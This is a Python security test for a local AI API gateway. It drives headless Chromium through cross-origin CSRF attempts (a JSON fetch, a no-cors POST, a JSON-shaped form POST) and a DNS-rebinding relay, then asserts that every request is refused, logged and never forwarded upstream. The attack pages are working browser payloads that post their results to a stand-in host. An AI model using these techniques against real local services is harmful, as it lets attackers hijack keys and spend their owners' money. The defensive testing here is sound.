"""Browser attacks on the gateway, in a real headless Chromium (RELIABILITY S-01d, S-02a).

A page from another origin (``http://attacker.test:R``, mapped to 127.0.0.1 by Chromium's host
resolver rules) tries to use the gateway: a JSON ``fetch`` POST carrying a valid access key (it
needs a preflight), a ``no-cors`` text/plain POST (no preflight), a GET of the model list, and a
form POST into an iframe. A second page plays DNS rebinding: it is served from
``http://rebind.test:PORT/`` (the gateway's port, on 127.0.0.2), and after it loads, its "DNS"
points at the gateway, a raw TCP relay on 127.0.0.2 pipes every further connection to the
gateway on 127.0.0.1, so the page's same-origin requests reach the gateway byte for byte with
``Host: rebind.test:PORT``.

Expected: nothing is forwarded upstream (the fake upstream sees no request), every attempt is a
log row ``rejected`` with its reason (forbidden origin / forbidden host / content type), and the
page can read nothing: no completion, no model list.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from tests.fakes.openai_upstream import FakeOpenAIUpstream
from tests.helpers import ACCESS_KEY, gateway_context
from tests.security import figures

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (.ci/setup installs it)")

UPSTREAM_KEY = "sk-browser-attack-upstream-key-000000"

ATTACK_PAGE = """<!doctype html><html><body><h1>Totally harmless page</h1>
<iframe name="sink" id="sink"></iframe>
<script>
const GW = "http://127.0.0.1:GWPORT";
const REPORT = "http://report.test:RPORT/report";
const BODY = JSON.stringify({model: "paid", messages: [{role: "user", content: "spend the owner's money"}]});
const results = {};
async function attempt(name, fn) {
  try {
    const r = await fn();
    let body = null;
    try { body = await r.text(); } catch (e) { body = "unreadable: " + e; }
    results[name] = {status: r.status, type: r.type, body: body};
  } catch (e) { results[name] = {error: String(e)}; }
}
(async () => {
  await attempt("json_post", () => fetch(GW + "/v1/chat/completions", {method: "POST",
    headers: {"Content-Type": "application/json", "Authorization": "Bearer ACCESSKEY"}, body: BODY}));
  await attempt("simple_post", () => fetch(GW + "/v1/chat/completions", {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "text/plain"}, body: BODY}));
  await attempt("models", () => fetch(GW + "/v1/models", {headers: {"Authorization": "Bearer ACCESSKEY"}}));
  // A form POST (no CORS at all): the body is shaped to look like JSON.
  const form = document.createElement("form");
  form.method = "POST"; form.action = GW + "/v1/chat/completions"; form.target = "sink";
  form.enctype = "text/plain";
  const input = document.createElement("input");
  input.name = BODY.slice(0, -1) + ', "pad": "'; input.value = '"}';
  form.appendChild(input); document.body.appendChild(form);
  const loaded = new Promise(resolve => document.getElementById("sink").onload = resolve);
  form.submit();
  await Promise.race([loaded, new Promise(r => setTimeout(r, 3000))]);
  try { results.form = {readable: document.getElementById("sink").contentDocument.body.innerText}; }
  catch (e) { results.form = {error: String(e)}; }
  await fetch(REPORT, {method: "POST", body: JSON.stringify({page: "attack", results})});
})();
</script></body></html>"""

REBIND_PAGE = """<!doctype html><html><body><script>
const REPORT = "http://report.test:RPORT/report";
const results = {};
async function attempt(name, fn) {
  try { const r = await fn(); results[name] = {status: r.status, body: await r.text()}; }
  catch (e) { results[name] = {error: String(e)}; }
}
(async () => {
  await new Promise(r => setTimeout(r, 300));  // the "DNS" now points at the gateway
  await attempt("models", () => fetch("/v1/models", {headers: {"Authorization": "Bearer ACCESSKEY"}}));
  await attempt("chat", () => fetch("/v1/chat/completions", {method: "POST",
    headers: {"Content-Type": "application/json", "Authorization": "Bearer ACCESSKEY"},
    body: JSON.stringify({model: "paid", messages: [{role: "user", content: "x"}]})}));
  await fetch(REPORT, {method: "POST", body: JSON.stringify({page: "rebind", results})});
})();
</script></body></html>"""


class ReportServer:
    """Serves the attack page and collects what the pages could see (CORS open: it is ours)."""

    def __init__(self) -> None:
        self.reports: dict[str, Any] = {}
        self.arrived = asyncio.Event()
        self.page = ""
        self.runner: web.AppRunner | None = None
        self.port = 0

    async def start(self) -> None:
        app = web.Application()
        app.router.add_get("/attack.html", self._page)
        app.router.add_post("/report", self._report)
        app.router.add_route("OPTIONS", "/report", self._options)
        self.runner = web.AppRunner(app, access_log=None)
        await self.runner.setup()
        site = web.TCPSite(self.runner, "127.0.0.1", 0)
        await site.start()
        self.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]

    async def _page(self, request: web.Request) -> web.Response:
        return web.Response(text=self.page, content_type="text/html")

    async def _options(self, request: web.Request) -> web.Response:
        return web.Response(headers={"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"})

    async def _report(self, request: web.Request) -> web.Response:
        data = json.loads(await request.text())
        self.reports[data["page"]] = data["results"]
        self.arrived.set()
        return web.Response(text="ok", headers={"Access-Control-Allow-Origin": "*"})

    async def close(self) -> None:
        if self.runner is not None:
            await self.runner.cleanup()


class RebindingRelay:
    """On 127.0.0.2:PORT: the first ``GET /`` gets the page; every later request is piped, byte for
    byte, to the gateway on 127.0.0.1:PORT, as if the name had been re-pointed at it."""

    def __init__(self, port: int, page: str) -> None:
        self.port = port
        self.page = page.encode()
        self.served = False
        self.server: asyncio.Server | None = None
        self.tasks: set[asyncio.Task[None]] = set()

    async def start(self) -> None:
        self.server = await asyncio.start_server(self._client, "127.0.0.2", self.port)

    async def _client(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
        except (asyncio.IncompleteReadError, ConnectionError):  # a speculative connection, never used
            writer.close()
            return
        if not self.served and head.startswith(b"GET / "):
            self.served = True
            answer = (
                f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(self.page)}\r\n"
                "Connection: close\r\n\r\n"
            )
            writer.write(answer.encode() + self.page)
            await writer.drain()
            writer.close()
            return
        up_reader, up_writer = await asyncio.open_connection("127.0.0.1", self.port)
        up_writer.write(head)  # the request head read above, unchanged

        async def pipe(src: asyncio.StreamReader, dst: asyncio.StreamWriter) -> None:
            with contextlib.suppress(ConnectionError, asyncio.CancelledError):
                while data := await src.read(65536):
                    dst.write(data)
                    await dst.drain()
            with contextlib.suppress(Exception):
                dst.close()

        for task in (asyncio.create_task(pipe(reader, up_writer)), asyncio.create_task(pipe(up_reader, writer))):
            self.tasks.add(task)
            task.add_done_callback(self.tasks.discard)

    async def close(self) -> None:
        if self.server is not None:
            self.server.close()
        for task in list(self.tasks):
            task.cancel()


async def visit(url: str, rules: str, profile: Path) -> subprocess.Popen[bytes]:
    return subprocess.Popen(
        [
            CHROMIUM,  # type: ignore[list-item]
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-extensions",
            "--disable-background-networking",
            f"--user-data-dir={profile}",
            f"--host-resolver-rules={rules}",
            url,
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "TMPDIR": str(profile.parent)},  # Chromium's scratch dirs go with the test's
    )


async def test_pages_from_other_origins_and_rebound_names_get_nothing(tmp_path: Path) -> None:
    async with FakeOpenAIUpstream(api_key=UPSTREAM_KEY) as upstream:
        config = {
            "providers": [{"id": "up", "base_url": upstream.base_url, "key": {"env": "SB_BROWSER_KEY"}}],
            "routes": [{"name": "paid", "targets": [{"provider": "up", "model": "gpt-4o-mini"}]}],
        }
        async with gateway_context(tmp_path, config, env={"SB_BROWSER_KEY": UPSTREAM_KEY}) as ctx:
            reports = ReportServer()
            await reports.start()
            reports.page = ATTACK_PAGE.replace("GWPORT", str(ctx.port)).replace("RPORT", str(reports.port))
            reports.page = reports.page.replace("ACCESSKEY", ACCESS_KEY)
            rebind_page = REBIND_PAGE.replace("RPORT", str(reports.port)).replace("ACCESSKEY", ACCESS_KEY)
            relay = RebindingRelay(ctx.port, rebind_page)
            await relay.start()
            rules = "MAP attacker.test 127.0.0.1, MAP report.test 127.0.0.1, MAP rebind.test 127.0.0.2"
            browsers = []
            try:
                browsers.append(await visit(f"http://attacker.test:{reports.port}/attack.html", rules, tmp_path / "p1"))
                browsers.append(await visit(f"http://rebind.test:{ctx.port}/", rules, tmp_path / "p2"))
                async with asyncio.timeout(60):
                    while len(reports.reports) < 2:
                        reports.arrived.clear()
                        await reports.arrived.wait()
            finally:
                for browser in browsers:
                    browser.kill()
                    browser.wait()
                await relay.close()
                await reports.close()

            attack, rebind = reports.reports["attack"], reports.reports["rebind"]
            figures.add("browser_attempts", len(attack) + len(rebind), source=__name__)
            figures.add("browser_forwarded", len(upstream.requests))
            # The page could read nothing.
            assert "error" in attack["json_post"], attack  # the preflight was refused
            assert attack["simple_post"]["type"] == "opaque" and attack["simple_post"]["body"] == ""
            assert "error" in attack["models"], attack
            assert "error" in attack["form"], attack  # cross-origin frame: unreadable
            assert rebind["models"]["status"] == 403 and "paid" not in rebind["models"]["body"]
            assert rebind["chat"]["status"] == 403 and "forbidden_host" in rebind["chat"]["body"]
            # Nothing was forwarded, so nothing was spent.
            assert upstream.requests == []
            # Every attempt is in the log, refused, with its reason.
            rows = ctx.rows()
            reasons = {r.error for r in rows}
            assert rows and all(r.status == "rejected" and r.http_status == 403 for r in rows), [
                (r.status, r.http_status, r.error) for r in rows
            ]
            assert any("Cross-origin" in (e or "") for e in reasons)
            assert any("Forbidden host" in (e or "") for e in reasons)
            assert sum(r.surface == "chat" for r in rows) >= 4  # preflight, no-cors POST, form POST, rebind POST
